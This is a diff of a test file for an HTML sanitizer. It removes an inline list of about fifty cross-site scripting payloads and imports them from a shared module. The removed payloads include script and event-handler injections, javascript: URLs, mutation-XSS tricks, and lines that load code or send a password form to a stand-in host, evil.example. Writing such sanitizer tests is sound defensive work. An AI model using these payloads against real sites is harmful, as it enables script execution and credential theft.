@@ -1,65 +1,8 @@
 // @vitest-environment jsdom
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
+import { hostileHtml, hostileTexts, uploadedPicture } from '../../tests/support/hostile-html.ts'
 import { safeHtml } from './safe-html.ts'
-
-const picture = `/uploads/${'a'.repeat(26)}.jpg`
-
-/** Scripts, frames and forms in every spelling that has got past somebody's rules. */
-const payloads = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  `<img src="${picture}" onload="alert(1)">`,
-  `<img src="${picture}?"onerror="alert(1)">`,
-  '<img src="javascript:alert(1)">',
-  '<img srcset="https://evil.example/x.png 1x">',
-  '<img src="/uploads/../api/auth/logout">',
-  '<img src="https://evil.example/pixel.gif">',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<style><img src="</style><img src=x onerror=alert(1)//">',
-  '<title><img src="</title><img src=x onerror=alert(1)>">',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="https://evil.example/"></iframe>',
-  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=" &#14; java&#x0A;script:alert(1)">x</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="https://site@evil.example/">x</a>',
-  '<a href="x" data-youtube="&quot;><script>alert(1)</script>">x</a>',
-  '<a href="/blog" onmouseover="alert(1)" style="position:fixed;inset:0">x</a>',
-  '<a href="/blog" target="_top" ping="https://evil.example/">x</a>',
-  '<form action="https://evil.example/"><input name=password><button>Entrar</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<base href="https://evil.example/">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<body onload=alert(1)>',
-  '<p style="background:url(https://evil.example/x)">x</p>',
-  '<p id="root" class="fixed" name="getElementById">x</p>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<table background="javascript:alert(1)"><tr><td onclick=alert(1) colspan="1e9">x</td></tr></table>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<p/onclick=alert(1)>x</p>',
-  '<a\u0000 href="java\u0000script:alert(1)">x</a>',
-]
 
 const tags = new Set(
   `p br b strong i em u s h2 h3 h4 blockquote ul ol li a img figure figcaption code pre hr table thead tbody tr th td`.split(
@@ -82,7 +25,7 @@ function strangers(html: string): string[] {
 }
 
 describe('what could run, load or pretend is taken out of', () => {
-  test.each(payloads)('%s', (payload) => {
+  test.each(hostileHtml)('%s', (payload) => {
     for (const html of [payload, `<p>Antes</p>${payload}<p>Depois</p>`, `<b><table>${payload}`]) {
       const safe = safeHtml(html)
       expect(strangers(safe)).toEqual([])
@@ -92,10 +35,9 @@ describe('what could run, load or pretend is taken out of', () => {
 })
 
 test('texts made of pieces of payloads are safe, and their own answer', () => {
-  const crumb = fc.constantFrom(...payloads.flatMap((payload) => payload.split(/(?=[<>"' =])/)))
   fc.assert(
-    fc.property(fc.array(crumb, { minLength: 1, maxLength: 25 }), (crumbs) => {
-      const safe = safeHtml(crumbs.join(''))
+    fc.property(hostileTexts, (text) => {
+      const safe = safeHtml(text)
       expect(strangers(safe)).toEqual([])
       expect(safeHtml(safe)).toBe(safe)
     }),
@@ -106,7 +48,7 @@ test('texts made of pieces of payloads are safe, and their own answer', () => {
 test('what authors write stays as they wrote it', () => {
   const html = `<h2>Título</h2><p>Um <b>texto</b> com <em>ênfase</em>,<br />uma <a href="/lyrics/mar">letra</a>.</p>\
 <blockquote><p>Dito &amp; feito</p></blockquote><ul><li>um</li></ul>\
-<figure><img src="${picture}" alt="Mar" width="1200" height="630" loading="lazy" /><figcaption>Mar</figcaption></figure>\
+<figure><img src="${uploadedPicture}" alt="Mar" width="1200" height="630" loading="lazy" /><figcaption>Mar</figcaption></figure>\
 <pre><code>1 &lt; 2</code></pre><hr /><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>`
   expect(safeHtml(html)).toBe(html)
 })
